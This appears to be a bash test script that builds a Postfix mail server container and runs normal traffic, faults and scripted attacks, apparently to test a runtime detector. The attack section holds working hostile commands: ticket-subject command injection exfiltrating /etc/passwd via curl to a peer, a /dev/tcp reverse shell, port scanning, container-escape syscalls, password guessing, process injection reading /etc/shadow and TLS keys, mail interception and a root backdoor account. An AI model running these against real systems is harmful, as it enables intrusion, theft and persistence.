# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# postfix as the mail server of a small firm: letters from strangers and from users who log in, delivery to
# maildirs, aliases and lists, a second domain, tickets made by a program, a policy service, a relay host that
# takes, refuses or defers. What runs in the container is in services/postfix/{bin,etc}.

# shellcheck disable=SC2034,SC2154 # lib.bash and rare.bash read these variables, and set others
set=development containers=(postfix) port=25 data_directory=/var/mail
configuration_file=/etc/postfix/main.cf
health=(/usr/sbin/postfix status)
image_packages=(postfix libsasl2-modules sasl2-bin python3 mawk cpio tar diffutils coreutils findutils grep sed
	gzip dash bash base-files libc-bin netbase hostname tzdata procps curl)
rare_own=(new_user new_domain certificate relay_gone relay_slow requeue hold queue_cleaned queue_read broken_map
	ticket_fails mail_loop large_letter maildir_closed local_letter burst settings_command)

image_prepare() {
	local tree=$1
	rmdir "$tree/var/run" && ln -s /run "$tree/var/run"
	ln -s mawk "$tree/usr/bin/awk" # as update-alternatives does
	printf '%s\n' 'postfix:x:104:104::/var/spool/postfix:/usr/sbin/nologin' \
		'vmail:x:5000:5000::/var/mail:/usr/sbin/nologin' \
		'tickets:x:1100:1100::/srv/tickets:/usr/sbin/nologin' ann:x:1001:1001::/home/ann:/bin/sh \
		bob:x:1002:1002::/home/bob:/bin/sh carl:x:1003:1003::/home/carl:/bin/sh dora:x:1004:1004::/home/dora:/bin/sh \
		>>"$tree/etc/passwd"
	printf '%s\n' postfix:x:104: postdrop:x:105: sasl:x:106:postfix vmail:x:5000: tickets:x:1100: \
		ann:x:1001: bob:x:1002: carl:x:1003: dora:x:1004: >>"$tree/etc/group"
	mkdir -p "$tree"/{etc/postfix/tls,home/{ann,bob,carl,dora},usr/local/bin,srv/{tickets,archive}} \
		"$tree"/var/{log/postfix,mail/vhosts,lib/policy,lib/postfix}
	install -m 755 "$here"/services/postfix/bin/* "$tree/usr/local/bin/"
	postfix_owners "$tree"
	postfix_configuration "$tree"
	chroot "$tree" /usr/bin/python3 -m compileall -q /usr/lib/python3.11 >/dev/null || true
}

# As the package's installation does it. The directories of the queue are made at the start.
postfix_owners() {
	local tree=$1
	chown 1001:1001 "$tree/home/ann"
	chown 1002:1002 "$tree/home/bob"
	chown 1003:1003 "$tree/home/carl"
	chown 1004:1004 "$tree/home/dora"
	chown 5000:5000 "$tree/var/mail/vhosts"
	chown 1100:1100 "$tree/srv/tickets"
	chown 65534:65534 "$tree"/{var/lib/policy,srv/archive}
	chown 104:104 "$tree/var/lib/postfix"
	chown root:105 "$tree"/usr/sbin/post{drop,queue}
	chmod 2555 "$tree"/usr/sbin/post{drop,queue}
}

postfix_configuration() {
	local tree=$1 dir=$1/etc/postfix user
	grep '^#' "$tree/usr/share/postfix/dynamicmaps.cf" >"$dir/dynamicmaps.cf"
	cp "$here/services/postfix/etc/main.cf" "$dir/"
	# Without the examples for programs that are not here.
	{
		sed '/^maildrop /,$d' "$tree/usr/share/postfix/master.cf.dist"
		cat "$here/services/postfix/etc/master.add"
	} >"$dir/master.cf"
	cp "$tree/usr/share/postfix/main.cf.debian" "$dir/main.cf.proto"
	cp "$tree/usr/share/postfix/master.cf.dist" "$dir/master.cf.proto"
	printf 'sales@firm.example ann@firm.example, bob@firm.example\nchief@firm.example dora@firm.example\n' >"$dir/virtual"
	printf '%s\n' tickets.firm.example\ tickets: 'old.example error:5.1.2 this firm has moved' >"$dir/transport"
	printf 'member%d@club.example club/member%d/\n' 1 1 2 2 3 3 4 4 5 5 6 6 7 7 8 8 9 9 >"$dir/vmailbox"
	printf '/^Subject: .*(lottery|casino)/ REJECT no advertising\n/^Subject: Offer/ PREPEND X-Kind: offer\n' \
		>"$dir/header_checks"
	printf 'ann\nbob\ndora\n' >"$dir/staff"
	printf '%s\n' 'postmaster: root' 'root: ann' 'staff: :include:/etc/postfix/staff' 'archive: /srv/archive/letters' \
		'info: bob, "|/usr/local/bin/autoreply"' >"$tree/etc/aliases"
	echo '\carl, dora' >"$tree/home/carl/.forward"
	chown 1003:1003 "$tree/home/carl/.forward"
	openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj /CN=service.example -keyout "$dir/tls/key.pem" \
		-out "$dir/tls/cert.pem" 2>/dev/null
	chmod 600 "$dir/tls/key.pem"
	mknod -m 666 "$tree/dev/urandom" c 1 9
	chroot "$tree" /usr/sbin/postmap /etc/postfix/virtual /etc/postfix/transport /etc/postfix/vmailbox
	chroot "$tree" /usr/sbin/postalias /etc/aliases
	printf 'pwcheck_method: auxprop\nauxprop_plugin: sasldb\nmech_list: PLAIN LOGIN\n' >"$dir/sasl/smtpd.conf"
	for user in ann:harbour1 bob:winter22 carl:paper-3 dora:quiet4; do
		echo "${user#*:}" | chroot "$tree" /usr/sbin/saslpasswd2 -p -c -u firm.example \
			-f /var/spool/postfix/etc/sasldb2 "${user%:*}"
	done
	rm "$tree/dev/urandom"
	chown root:104 "$tree/var/spool/postfix/etc/sasldb2"
	chmod 640 "$tree/var/spool/postfix/etc/sasldb2"
}

container_fields() {
	arguments=(/usr/local/bin/start)
	volumes=(/var/spool/postfix /var/mail /home /srv/tickets)
}

peers() {
	relay_start
}

relay_start() {
	peer_start relay python3 -c "$(cat "$here/services/postfix/peer.py")" "$peer_address"
	until_true "$patience" port_listens 2525
}

# mail KIND…: what the client can do is in services/postfix/mail.py.
mail() {
	client python3 -c "$(cat "$here/services/postfix/mail.py")" "$own_address" "$(between 1 100000)" "$@"
}

# letters_of USER: how many it has.
letters_of() {
	find "$(volume_path postfix /home)/$1/Maildir/new" -type f 2>/dev/null | wc -l
}

has_letter() {
	[ "$(letters_of ann)" -gt 0 ]
}

ready() {
	has_letter || { mail to ann@firm.example first 'The first letter' && until_true 10 has_letter; }
}

# ---- ordinary work ----

# One to four things by one client.
request() {
	local kinds=() i
	for ((i = RANDOM % 4; i >= 0; i--)); do
		kinds+=("$(pick letter letter letter letter virtual virtual ticket ticket list large info many many unknown \
			relay_denied new submit submit submit submits busy gone later wrong vrfy etrn aborted)")
	done
	mail "${kinds[@]}"
}

reload_service() {
	container_signal postfix HUP
}

# queue_id: of a letter that is in the queue, as the administrator sees it.
queue_id() {
	session postfix /usr/sbin/postqueue -p | sed -nE 's/^([0-9A-F]{6,}).*/\1/p' | head -n 1
}

# Names are added, the queue is looked at, one letter deleted, the log rotated, old mail thrown away.
administer() {
	local n=$RANDOM id
	echo "desk$n@firm.example bob@firm.example" >>"$(image_path postfix /etc/postfix/virtual)"
	session postfix /usr/sbin/postmap /etc/postfix/virtual
	echo "team$n: ann, dora" >>"$(image_path postfix /etc/aliases)"
	session postfix /usr/bin/newaliases
	mail to "desk$n@firm.example" 'To a new name' 'Is it there?'
	id=$(queue_id)
	[ -z "$id" ] || session postfix /usr/sbin/postsuper -d "$id"
	session postfix /usr/sbin/postqueue -f
	session postfix /usr/sbin/postfix logrotate
	find "$(volume_path postfix /home)" -path '*/Maildir/new/*' -type f | sort | head -n 20 | xargs -r rm -f
	session postfix /usr/sbin/postfix reload
}

# ---- rare events ----

rare_new_user() {
	keep_file postfix /etc/passwd
	keep_file postfix /var/spool/postfix/etc/sasldb2
	undo rm -rf "$(volume_path postfix /home)/emil"
	echo 'emil:x:1005:1005::/home/emil:/bin/sh' >>"$(image_path postfix /etc/passwd)"
	session postfix /bin/sh -c 'mkdir /home/emil && chown 1005:1005 /home/emil
		echo pear5 | saslpasswd2 -p -c -u firm.example -f /var/spool/postfix/etc/sasldb2 emil'
	mail to emil@firm.example Welcome 'A new place'
	echo 'My first letter' | mail_from emil pear5 friend1@partner.example
}

# mail_from USER PASSWORD ADDRESS…: the letter is standard input.
mail_from() {
	client_stdin python3 -c "$(cat "$here/services/postfix/mail.py")" "$own_address" "$(between 1 100000)" from "$@"
}

rare_new_domain() {
	keep_file postfix /etc/postfix/main.cf
	keep_file postfix /etc/postfix/vmailbox
	keep_file postfix /etc/postfix/vmailbox.db
	undo reload_service
	session postfix /usr/sbin/postconf -e 'virtual_mailbox_domains = club.example choir.example'
	echo 'info@choir.example choir/info/' >>"$(image_path postfix /etc/postfix/vmailbox)"
	session postfix /usr/sbin/postmap /etc/postfix/vmailbox
	session postfix /usr/sbin/postfix reload
	sleep 2
	mail to info@choir.example Song 'Who sings?'
}

rare_certificate() {
	certificate_renew postfix /etc/postfix/tls
	reload_service
	sleep 2
	mail submit
}

rare_relay_gone() {
	peer_stop relay
	mail submit
	sleep 12
	relay_start
}

# It takes connections and says nothing.
rare_relay_slow() {
	peer_stop relay
	peer_start relay socat "TCP-LISTEN:2525,bind=$peer_address,reuseaddr,fork" 'SYSTEM:sleep 8'
	mail submit
	sleep 14
	peer_stop relay
	relay_start
}

rare_requeue() {
	mail later
	session postfix /usr/sbin/postsuper -r ALL
	sleep 5
}

rare_hold() {
	mail later
	session postfix /usr/sbin/postsuper -h ALL
	sleep 5
	session postfix /usr/sbin/postsuper -H ALL
}

rare_queue_cleaned() {
	mail later
	sleep 2
	session postfix /usr/sbin/postsuper -d ALL deferred
	session postfix /usr/sbin/postsuper -s
}

rare_queue_read() {
	local id
	mail later
	sleep 2
	id=$(queue_id)
	session postfix /usr/sbin/postcat -q "$id"
	session postfix /usr/sbin/postqueue -j
	session postfix /usr/sbin/postqueue -i "$id"
}

# A table that is none: letters are deferred until it is made anew.
rare_broken_map() {
	local file
	file=$(image_path postfix /etc/postfix/virtual.db)
	head -c 3000 /dev/urandom >"$file.new"
	mv "$file.new" "$file"
	reload_service
	sleep 1
	mail letter
	session postfix /usr/sbin/postmap /etc/postfix/virtual
	sleep 5
}

# The program of the tickets ends with an error: the letter comes back.
rare_ticket_fails() {
	mv "$(image_path postfix /srv/tickets/index)" "$(image_path postfix /srv/tickets/index.old)"
	chmod 555 "$(image_path postfix /srv/tickets)"
	mail ticket
	sleep 5
	chmod 755 "$(image_path postfix /srv/tickets)"
	mv "$(image_path postfix /srv/tickets/index.old)" "$(image_path postfix /srv/tickets/index)"
}

# Two names that forward to each other.
rare_mail_loop() {
	keep_file postfix /etc/aliases
	keep_file postfix /etc/aliases.db
	keep_file postfix /etc/postfix/virtual
	keep_file postfix /etc/postfix/virtual.db
	undo reload_service
	printf 'here: there@club.example\n' >>"$(image_path postfix /etc/aliases)"
	printf 'there@club.example here@firm.example\n' >>"$(image_path postfix /etc/postfix/virtual)"
	session postfix /usr/bin/newaliases
	session postfix /usr/sbin/postmap /etc/postfix/virtual
	mail to here@firm.example Round 'and round'
	sleep 5
}

# More than is taken.
rare_large_letter() {
	head -c 2500000 /dev/urandom | base64 | mail_from bob winter22 ann@firm.example
}

# A user who has closed the directory: letters wait.
rare_maildir_closed() {
	local dir
	dir=$(volume_path postfix /home)/dora
	mv "$dir/Maildir" "$dir/Maildir.old"
	: >"$dir/Maildir"
	mail to dora@firm.example Hello 'Are you there?'
	sleep 3
	rm "$dir/Maildir"
	mv "$dir/Maildir.old" "$dir/Maildir"
	session postfix /usr/sbin/postqueue -f
}

# From the machine itself, by root and by a user.
rare_local_letter() {
	session postfix /bin/sh -c 'printf "Subject: from root\n\nThe disk is fine.\n" |
		sendmail -i ann@firm.example friend2@partner.example'
	session_as 1001:1001 postfix /bin/sh -c 'printf "Subject: from a shell\n\nHello.\n" | sendmail bob'
	session postfix /usr/bin/mailq
	sleep 3
}

# Ten clients at once.
rare_burst() {
	local pids=() i
	for i in {1..10}; do
		mail many &
		pids+=($!)
	done
	wait "${pids[@]}" || true
}

rare_settings_command() {
	keep_file postfix /etc/postfix/main.cf
	undo reload_service
	session postfix /usr/sbin/postconf -n
	session postfix /usr/sbin/postconf -e 'message_size_limit = 3000000'
	session postfix /usr/sbin/postfix check
	session postfix /usr/sbin/postmap -q sales@firm.example hash:/etc/postfix/virtual
	session postfix /usr/sbin/postfix reload
}

# ---- attacks ----

# ticket_runs COMMANDS [BODY]: by the subject of a letter to the tickets.
ticket_runs() {
	mail to help@tickets.firm.example "x\"; $(tr -s '\n\t' ' ' <<<"$1"); echo \"" "${2:-Please help.}"
}

attack_command_injection() {
	harm exec /usr/bin/id
	harm read /etc/passwd
	harm connect "$peer_address:4444"
	thief_begin
	ticket_runs "(id; cat /etc/passwd /srv/tickets/index) >/tmp/x;
		curl -s --max-time 3 -T /tmp/x http://$peer_address:4444/"
	thief_got 'uid=1100'
	thief_got '^dora:'
}

attack_reverse_shell() {
	harm exec /usr/bin/bash
	harm connect "$peer_address:4444"
	harm exec /usr/bin/id
	thief_shell 'id; cat /etc/aliases; ls -la /home; exit'
	ticket_runs "bash -c 'bash -i >/dev/tcp/$peer_address/4444 0<&1 2>&1'"
	thief_got 'uid=1100'
}

attack_miner() {
	harm write /var/tmp/.smtpd
	harm exec /var/tmp/.smtpd
	harm connect "$peer_address:3333"
	armoury_begin
	ticket_runs "$(miner_commands /var/tmp/.smtpd)"
	pool_got
}

attack_scan() {
	harm exec /usr/bin/bash
	harm connect "$peer_address:22"
	harm connect "$peer_address:5432"
	ticket_runs "bash -c 'for p in 21 22 25 80 443 2525 3306 5432 6379 8000; do echo >/dev/tcp/$peer_address/\$p \
&& echo open \$p; done >/srv/tickets/ports 2>&1'"
	until_true 20 grep -qs 'open 2525' "$(volume_path postfix /srv/tickets)/ports"
}

# Ways out of the container, each tried by a program that a letter brings.
attack_escape() {
	harm call mount
	harm call unshare
	harm call setns
	harm call ptrace
	# shellcheck disable=SC2016 # the container's shell
	ticket_runs 'cd /srv/tickets; ls -t | head -n 1 >/tmp/last;
		sed "1,/^$/d" "$(cat /tmp/last)" | python3 >escape 2>&1' 'import ctypes
c = ctypes.CDLL(None)
print(c.mount(0, 0, 0, 0, 0), c.setns(0, 0), c.ptrace(16, 1, 0, 0))
print(c.open(b"/proc/sys/kernel/core_pattern", 1), c.open(b"/proc/1/root/etc/shadow", 0))
print("unshare", c.unshare(0x10020000))'
	until_true 20 grep -qs '^unshare' "$(volume_path postfix /srv/tickets)/escape"
}

# Passwords are tried until one fits; then the account sends letters to many.
attack_brute_force() {
	local word
	harm connect "$peer_address:2525"
	for word in 123456 password letmein monkey quiet{1..9}; do
		echo 'a stolen account' | mail_from dora "$word" friend{1..9}@partner.example || continue
		until_true 20 grep -q 'stolen account' "$stage/peer-relay.log" && return
	done
	return 1
}

# Code inside the master, which is root, starts a shell.
attack_code_shell() {
	harm exec /usr/bin/dash
	harm exec /usr/bin/id
	harm write /tmp/out
	ready # there is a letter to steal
	inject_pid "${container_pid[postfix]}" 'call (int) system("id >/tmp/out; cat /home/*/Maildir/new/* >>/tmp/out")'
	grep -q 'uid=0' "$(image_path postfix /tmp/out)"
	grep -q '^Subject:' "$(image_path postfix /tmp/out)"
}

# The same reads what only root may, without a program.
attack_code_credentials() {
	harm read /etc/shadow
	harm read /etc/postfix/tls/key.pem
	inject_pid "${container_pid[postfix]}" 'print (int) open("/etc/shadow", 0)' \
		'print (int) open("/etc/postfix/tls/key.pem", 0)' | tee "$stage/answer"
	[ "$(grep -cE '= [0-9]+' "$stage/answer")" = 2 ]
}

# Code inside an smtpd, which is in the jail: the passwords of all users, and no program.
attack_code_connect() {
	local s f held='^smtpd -n submission -'
	harm read '*/etc/sasldb2'
	harm connect "$peer_address:4444"
	thief_begin
	connection_held 587 'EHLO client.peer.example\r\n' '^250 '
	# As inject_theft() does it.
	s=$(inject_call postfix "$held" 41 2 1 0)
	inject_call postfix "$held" 42 "${s#* }" words:0x0100580a5c110002,0 16
	f=$(inject_call postfix "$held" 257 -100 '"/etc/sasldb2"' 0 0)
	inject_call postfix "$held" 40 "${s#* }" "${f#* }" 0 20000
	inject_call postfix "$held" 3 "${s#* }"
	inject_call postfix "$held" 3 "${f#* }"
	thief_got 'harbour1'
}

# Settings of the attacker's: a copy of every letter goes to a stranger.
attack_interception() {
	harm rename '/etc/postfix/main.cf*'
	harm exec /usr/sbin/postconf
	inject_pid "${container_pid[postfix]}" 'call (int) system("postconf -e always_bcc=spy@partner.example")'
	reload_service
	sleep 2
	mail to dora@firm.example Secret 'the stolen letter'
	until_true 20 grep -q 'the stolen letter' "$stage/peer-relay.log"
}

# A user with a password, and a key of a user who may log in.
attack_persistence() {
	harm write /etc/passwd
	harm write /home/ann/.ssh/authorized_keys
	inject_pid "${container_pid[postfix]}" 'call (int) system("echo ops:x:0:0::/:/bin/sh >>/etc/passwd")' \
		'call (int) system("mkdir /home/ann/.ssh; echo ssh-ed25519 AAAA thief >>/home/ann/.ssh/authorized_keys")'
	grep -q thief "$(volume_path postfix /home)/ann/.ssh/authorized_keys"
}

# ---- adaptive: known calls, files and peers only ----

# The stolen password of a user: many letters to many.
adaptive_spam() {
	local i
	harm connect "$peer_address:2525"
	for i in 1 2 3 4 5; do
		seq 100 | sed "s/^/buy now, number $i /" | mail_from bob winter22 customer{1..12}@partner.example
	done
	until_true 20 spam_is_sent
}

spam_is_sent() {
	[ "$(grep -c '^took .*A letter' "$stage/peer-relay.log")" -ge 40 ]
}

# All tickets, by the tickets' own program, in a letter to a customer.
adaptive_tickets_mailed() {
	harm read '/srv/tickets/*.txt'
	harm exec /usr/sbin/sendmail
	mail ticket
	mail ticket
	sleep 2
	# shellcheck disable=SC2016 # the container's shell
	ticket_runs 'for f in /srv/tickets/*.txt; do while read -r l; do echo "stolen $l"; done <$f; done |
		/usr/sbin/sendmail -f tickets@firm.example friend7@partner.example'
	until_true 20 grep -q 'stolen Subject' "$stage/peer-relay.log"
}

# queue_files: those of letters that wait, as the queue manager names them.
queue_files() {
	(cd "$(volume_path postfix /var/spool/postfix)" && find deferred -type f)
}

letters_wait() {
	[ "$(queue_files | wc -l)" -ge 3 ]
}

some_letters_wait() {
	local i
	for i in 1 2 3 4; do
		mail later
	done
	until_true 20 letters_wait
}

# Code inside the queue manager reads all letters that wait.
adaptive_queue_read() {
	local file commands=()
	harm read '*deferred/*'
	some_letters_wait
	while read -r file; do
		commands+=("print (int) open(\"$file\", 0)" 'call (int) close($)')
	done < <(queue_files)
	inject_pid "$(tasks_named postfix '^qmgr ' | head -n 1)" "${commands[@]}" | tee "$stage/answer"
	[ "$(grep -cE '= [0-9]+$' "$stage/answer")" -ge 3 ]
}

# The same deletes them.
adaptive_queue_lost() {
	local file commands=()
	harm unlink '*deferred/*'
	some_letters_wait
	while read -r file; do
		commands+=("print (int) unlink(\"$file\")")
	done < <(queue_files)
	inject_pid "$(tasks_named postfix '^qmgr ' | head -n 1)" "${commands[@]}" | grep -c '= 0$'
	! letters_wait
}
